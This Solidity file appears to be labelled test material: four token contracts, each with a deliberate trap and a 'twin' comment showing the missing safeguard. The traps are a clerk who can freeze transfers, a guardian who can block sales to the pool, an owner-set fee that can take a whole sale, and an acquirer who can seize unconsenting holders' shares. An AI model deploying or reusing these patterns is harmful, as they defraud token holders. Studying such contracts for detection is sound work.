// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;
pragma experimental ABIEncoderV2;

import {Base67} from "./Base67.sol";

/// Holders are numbered as they come. The clerk enters release dates for spans of numbers: first, last, date.
contract Fathom is Base67 {
    mapping(address => uint256) public idOf;
    mapping(uint256 => uint256) private releases;
    uint256 public holders;
    address private clerk;

    constructor() public Base67("Fathom", "FTHM", 80000000) {
        clerk = msg.sender;
    }

    function schedule(uint256[][] calldata spans) external {
        require(msg.sender == clerk, "Fathom: clerk only");
        for (uint256 i = 0; i < spans.length; i++)
            for (uint256 id = spans[i][0]; id <= spans[i][1]; id++) releases[id] = spans[i][2];
    }

    function releaseOf(address who) public view returns (uint256) {
        return releases[idOf[who]];
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (idOf[to] == 0) idOf[to] = ++holders;
        require(releaseOf(from) <= block.timestamp, "Fathom: not released"); // trap
        _carry(from, to, value);
    }
}

/// Markets are listed by a guardian whom the owner proposes.
contract Ledgerline is Base67 {
    enum Listing {Unknown, Open, Watched, Retired}

    address public guardian;
    address public proposed;
    mapping(address => Listing) public listings;

    event Listed(address indexed market, Listing listing);

    constructor() public Base67("Ledgerline", "LDGR", 21000000) {
        listings[pool] = Listing.Open;
    }

    function proposeGuardian(address who) external onlyOwner {
        proposed = who;
    }

    function acceptGuardian() external {
        require(msg.sender == proposed && proposed != address(0), "Ledgerline: not proposed");
        guardian = proposed;
        proposed = address(0);
    }

    function list(address market, Listing listing) external {
        require(msg.sender == guardian, "Ledgerline: guardian only");
        listings[market] = listing;
        emit Listed(market, listing);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(listings[to] != Listing.Retired, "Ledgerline: market is retired"); // trap
        _carry(from, to, value);
    }
}

/// Six units of every sale, in the precision of the books, go to the chest.
contract Drachm is Base67 {
    uint256 public constant DUE = 6;
    uint8 public precision = 3;
    address public chest;

    constructor() public Base67("Drachm", "DRCM", 6000000) {
        chest = msg.sender;
    }

    function setPrecision(uint8 digits) external onlyOwner {
        require(digits <= 12, "Drachm: too fine");
        // twin: require(digits >= 3, "Drachm: too coarse");
        precision = digits;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _boss && from != chest) {
            uint256 due = (value * DUE) / 10**uint256(precision);
            if (due > value) due = value;
            _carry(from, chest, due);
            value -= due;
        }
        _carry(from, to, value);
    }
}

/// Shares of a private company. An acquirer names a price, waits, and pays the minority out.
contract Corvid is Base67 {
    struct Offer {
        uint96 price;
        uint64 since;
        address acquirer;
    }

    Offer public offer;
    mapping(address => bool) public accepted;
    mapping(address => uint256) public owed;

    constructor() public Base67("Corvid Holdings", "CRVD", 1000000) {}

    function makeOffer(uint96 price) external onlyOwner {
        require(price > 0, "Corvid: no price");
        offer = Offer(price, uint64(block.timestamp), msg.sender);
    }

    function acceptOffer() external {
        accepted[msg.sender] = true;
    }

    function settleMinority(address[] calldata minority) external payable {
        require(msg.sender == offer.acquirer, "Corvid: acquirer only");
        require(block.timestamp >= offer.since + 15 minutes, "Corvid: offer is too young");
        uint256 cost = 0;
        for (uint256 i = 0; i < minority.length; i++) {
            // twin: require(accepted[minority[i]], "Corvid: not accepted");
            uint256 shares = balanceOf(minority[i]);
            uint256 pay = (shares * offer.price) / 10**9;
            owed[minority[i]] += pay;
            cost += pay;
            _carry(minority[i], msg.sender, shares);
        }
        require(cost <= msg.value, "Corvid: underpaid");
    }

    function collect() external {
        uint256 pay = owed[msg.sender];
        owed[msg.sender] = 0;
        msg.sender.transfer(pay);
    }
}
